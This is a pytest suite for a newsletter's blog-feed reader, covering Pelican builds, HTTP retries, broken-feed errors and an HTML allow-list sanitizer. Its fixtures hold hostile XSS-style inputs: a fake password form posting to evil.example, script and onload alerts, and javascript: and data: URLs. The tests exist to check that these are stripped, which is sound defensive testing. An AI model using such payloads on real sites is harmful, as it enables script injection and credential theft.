"""Reading the blog's feed as the announcer does: from a real Pelican build, from a file and over
HTTP, and every way a feed can be broken or out of reach (a clear FeedError, nothing more)."""

from __future__ import annotations

import http.server
import inspect
import threading
import time
import uuid
from datetime import UTC, datetime, timedelta
from html import escape

import pytest
from bs4 import BeautifulSoup

from newsletter.announcements.feed import FeedError, FeedItem, parse_feed, read_feed
from newsletter.settings import HttpSettings
from tests.announce_helpers import build, recent
from tests.conftest import SITE_URL, serve_folder, write_article


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    root = tmp_path_factory.mktemp("feedreader")
    content = root / "content"
    for sub in ("articles", "pages", "images"):
        (content / sub).mkdir(parents=True)
    (content / "images" / "knee.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 40)
    ids = {name: str(uuid.uuid4()) for name in ("plain", "tricky", "quiet")}
    future = (datetime.now(UTC) + timedelta(days=3)).strftime("%Y-%m-%d %H:%M")
    write_article(content, "plain", "Plain article", recent(5), id=ids["plain"],
                  subtitle="The dek, with <angle> & ampersand", summary="The *first* one.",
                  image="images/knee.png")  # fmt: skip
    write_article(content, "tricky", 'Knees & Hips <Part 1> "quoted"', recent(4), id=ids["tricky"])
    write_article(content, "quiet", "Housekeeping", recent(3), id=ids["quiet"], announce="no")
    write_article(content, "draft", "A draft", recent(2), status="draft")
    write_article(content, "future", "From the future", future)
    feed = build(content, root / "output")
    return feed, ids


def test_items_from_a_pelican_build(built):
    path, ids = built
    feed = read_feed(path)
    assert [item.title for item in feed.items] == [
        "Housekeeping",
        'Knees & Hips <Part 1> "quoted"',
        "Plain article",
    ]  # no draft, no future article
    quiet, tricky, plain = feed.items
    assert plain.guid == f"urn:uuid:{ids['plain']}"
    assert plain.link == f"{SITE_URL}/{datetime.now(UTC).year}/plain-article/"
    assert plain.subtitle == "The dek, with <angle> & ampersand"
    assert plain.summary == "<p>The <em>first</em> one.</p>"
    assert plain.image == f"{SITE_URL}/images/knee.png"
    assert plain.author == "Mark Williams"
    assert abs(datetime.now(UTC) - timedelta(hours=5) - plain.published) < timedelta(minutes=2)
    assert plain.announce and tricky.announce and not quiet.announce
    assert tricky.subtitle == "" and tricky.image == ""


def test_the_same_items_over_http_with_retries(built):
    path, _ = built
    server = serve_folder(path.parent.parent)
    try:
        feed = read_feed(f"{server.url}/feeds/all.rss.xml")
    finally:
        server.stop()
    assert feed.items == read_feed(path).items


class Flaky(http.server.BaseHTTPRequestHandler):
    answers: list = []  # (status, body) per request, the last one repeats
    seen: list = []

    def do_GET(self):
        Flaky.seen.append(self.path)
        status, body = Flaky.answers[min(len(Flaky.seen), len(Flaky.answers)) - 1]
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def flaky():
    Flaky.answers, Flaky.seen = [], []
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Flaky)
    threading.Thread(target=httpd.serve_forever, args=(0.05,), daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/feeds/all.rss.xml"
    httpd.shutdown()
    httpd.server_close()


def test_503_and_429_are_retried_then_the_feed_is_read(flaky, built):
    path, _ = built
    Flaky.answers = [(503, b"busy"), (429, b"slow down"), (200, path.read_bytes())]
    feed = read_feed(flaky, backoff=0.01)
    assert len(feed.items) == 3 and len(Flaky.seen) == 3


def test_a_404_is_not_retried_and_says_so(flaky):
    Flaky.answers = [(404, b"not here")]
    with pytest.raises(FeedError, match=r"feed http://127\.0\.0\.1:\d+/feeds/all\.rss\.xml: .*404"):
        read_feed(flaky, backoff=0.01)
    assert len(Flaky.seen) == 1


def test_a_server_that_stays_down_is_a_clear_error(flaky):
    Flaky.answers = [(502, b"bad gateway")]
    with pytest.raises(FeedError, match="502 Bad Gateway; tried 3 times"):
        read_feed(flaky, retries=2, backoff=0.01)


def test_an_unreachable_site_is_a_clear_error():
    with pytest.raises(FeedError, match="cannot reach it .*tried 2 times"):
        read_feed("http://127.0.0.1:9/feed.xml", retries=1, backoff=0.01, timeout=2)


def test_the_timeout_is_the_http_one_not_the_smtp_one():
    """A feed that does not answer in time: `timeout` (NEWSLETTER_HTTP_TIMEOUT, whose default
    is the default) bounds the wait; NEWSLETTER_SMTP_TIMEOUT has nothing to do with it."""
    assert inspect.signature(read_feed).parameters["timeout"].default == HttpSettings().timeout
    answered = threading.Event()

    class Silent(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            answered.wait(5)  # until the test is done

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Silent)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    started = time.monotonic()
    try:
        with pytest.raises(FeedError, match="cannot reach it .*ReadTimeout"):
            read_feed(f"http://127.0.0.1:{server.server_port}/feed.xml", retries=0, timeout=0.3)
    finally:
        answered.set()
        server.shutdown()
        server.server_close()
    assert time.monotonic() - started < 3


RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>T</title><link>https://x.example/</link>
<description>d</description>{items}</channel></rss>"""


@pytest.mark.parametrize(
    "data, words",
    [
        (b"", "empty"),
        (b"<html><body><p>Moved to our new site</p></body></html>", "not an RSS or Atom feed"),
        (RSS.format(items="<item><title>x</title>").encode(), "not well-formed XML"),
        (
            RSS.format(items="<item><title>No id</title><link>https://x.example/a/</link></item>"),
            "item 1 \\('No id'\\): no guid",
        ),
        (
            RSS.format(items="<item><title>Rel</title><guid>g1</guid><link>/a/</link></item>"),
            "not an absolute http",
        ),
        (
            RSS.format(items="<item><guid>g1</guid><link>https://x.example/</link></item>"),
            "no title",
        ),
    ],
)
def test_broken_feeds_are_refused_with_what_is_wrong(data, words):
    data = data.encode() if isinstance(data, str) else data
    with pytest.raises(FeedError, match=words):
        parse_feed(data, "test.xml")


def test_a_missing_file_says_to_build_first(tmp_path):
    with pytest.raises(FeedError, match="no such file"):
        read_feed(tmp_path / "nope.xml")


def test_line_breaks_in_titles_become_spaces():
    feed = parse_feed(
        RSS.format(
            items="<item><title>Two\nlines\r\n  here</title><guid>g</guid>"
            "<link>https://x.example/a/</link></item>"
        ).encode()
    )
    assert feed.items[0].title == "Two lines here"


# Feed HTML and text, checked where the feed is read ---------------------------------------------
ST_RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:st="urn:x-stay-tuned:article:1" xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>T</title><link>https://walkagain.example/</link><description>d</description>
{items}</channel></rss>"""
HOSTILE_SUMMARY = """<p>Intro with <a href="https://walkagain.example/ok/">a link</a>,
<em>emphasis</em> and <strong>strong words</strong>.</p>
<form action="https://evil.example/steal"><p>Your password, please:</p>
<input name="password" type="password"><button>Log in</button></form>
<svg onload="alert(1)"><script>alert(2)</script><text>svg text</text></svg>
<p><a href="javascript:alert(3)">js link</a> <a href="//evil.example/x">scheme-relative</a>
<a href="/relative/">relative</a></p>
<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="data image">
<img src="https://walkagain.example/images/ok.png" alt="ok image" width="300" height="200"
     style="border: 9px solid red" onerror="alert(4)" class="evil">
<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">fixed overlay</p>
<iframe src="https://evil.example/frame">iframe text</iframe>
<math><mi>mathml</mi></math><object data="https://evil.example/x.swf">object text</object>
<ul><li>one</li><li>two</li></ul><blockquote>quoted</blockquote>"""


def rss_item(title="Safe", summary="", extra="", guid="g1"):
    return (
        f"<item><title>{title}</title><guid>{guid}</guid>"
        f"<link>https://walkagain.example/2026/a/</link>"
        f"<description>{escape(summary)}</description>{extra}</item>"
    )


def assert_only_allow_listed(html):
    soup = BeautifulSoup(html, "html.parser")
    for name in ("form", "input", "button", "svg", "script", "iframe", "math", "object", "style"):
        assert soup.find(name) is None, name
    for tag in soup.find_all(True):
        assert not {"style", "class", "onerror", "onload"} & set(tag.attrs), tag
        for name in ("href", "src"):
            if tag.get(name) is not None:
                assert tag[name].startswith(("https://", "http://")), tag
    for words in ("password", "alert", "svg text", "mathml", "evil.example", "Log in"):
        assert words not in html, words
    return soup


def test_summary_html_is_allow_listed():
    (item,) = parse_feed(ST_RSS.format(items=rss_item(summary=HOSTILE_SUMMARY)).encode()).items
    soup = assert_only_allow_listed(item.summary)
    # What a summary is for survives: paragraphs, links, emphasis, lists, an https image.
    assert soup.find("a", string="a link")["href"] == "https://walkagain.example/ok/"
    assert soup.find("a", string="a link")["rel"] == ["noopener", "noreferrer"]
    assert soup.find("em").get_text() == "emphasis" and soup.find("strong")
    assert [li.get_text() for li in soup.find_all("li")] == ["one", "two"]
    assert soup.find("blockquote").get_text() == "quoted"
    (image,) = soup.find_all("img")  # the data: one is gone, not left as a broken box
    assert image.attrs == {
        "src": "https://walkagain.example/images/ok.png",
        "alt": "ok image",
        "width": "300",
        "height": "200",
    }
    assert "fixed overlay" in soup.get_text()  # the paragraph stays, its style goes


def test_safe_html_is_idempotent_and_applies_to_every_feed_item():
    """An item read back from the ledger (or made by hand) is cleaned too."""
    from newsletter.announcements.feed import safe_html  # new with the allow-list

    once = safe_html(HOSTILE_SUMMARY)
    assert safe_html(once) == once
    item = FeedItem(guid="g", link="https://walkagain.example/a/", title="T",
                    summary=HOSTILE_SUMMARY, image="javascript:alert(1)")  # fmt: skip
    assert item.summary == once and item.image == ""
    assert FeedItem.from_dict(item.to_dict()) == item


@pytest.mark.parametrize(
    "extra, image",
    [
        ('<enclosure url="javascript:alert(1)" type="image/png" length="1"/>', ""),
        ('<enclosure url="data:image/png;base64,AAAA" type="image/png" length="1"/>', ""),
        ('<enclosure url="JavaScript:alert(1)//https://x" type="image/png" length="1"/>', ""),
        ('<media:content url="javascript:alert(1)" medium="image"/>', ""),
        (
            '<enclosure url="javascript:alert(1)" type="image/png" length="1"/>'
            '<enclosure url="https://walkagain.example/i.png" type="image/png" length="1"/>',
            "https://walkagain.example/i.png",
        ),
        (
            '<enclosure url="https://walkagain.example/i.png" type="image/png" length="1"/>',
            "https://walkagain.example/i.png",
        ),
    ],
)
def test_image_urls_must_be_absolute_http(extra, image):
    (item,) = parse_feed(ST_RSS.format(items=rss_item(extra=extra)).encode()).items
    assert item.image == image


@pytest.mark.parametrize(
    "xml, text",
    [
        # HTML in RSS (escaped once, or in CDATA): the tags go, the entities are decoded.
        ("&lt;b&gt;Knees&lt;/b&gt; &amp;amp; Hips &amp;lt;Part 1&amp;gt;", "Knees & Hips <Part 1>"),
        ("<![CDATA[<b>Knees</b> &amp; Hips &lt;Part 1&gt;]]>", "Knees & Hips <Part 1>"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;Hips", "Hips"),
        # Text (as the blog writes it): kept as written, angle brackets and all.
        ('Knees &amp; Hips &lt;Part 1&gt; "quoted"', 'Knees & Hips <Part 1> "quoted"'),
    ],
)
def test_titles_deks_and_authors_are_plain_text(xml, text):
    extra = f"<st:subtitle>{xml}</st:subtitle><author>{xml}</author>"
    (item,) = parse_feed(ST_RSS.format(items=rss_item(title=xml, extra=extra)).encode()).items
    assert item.title == item.subtitle == item.author == text
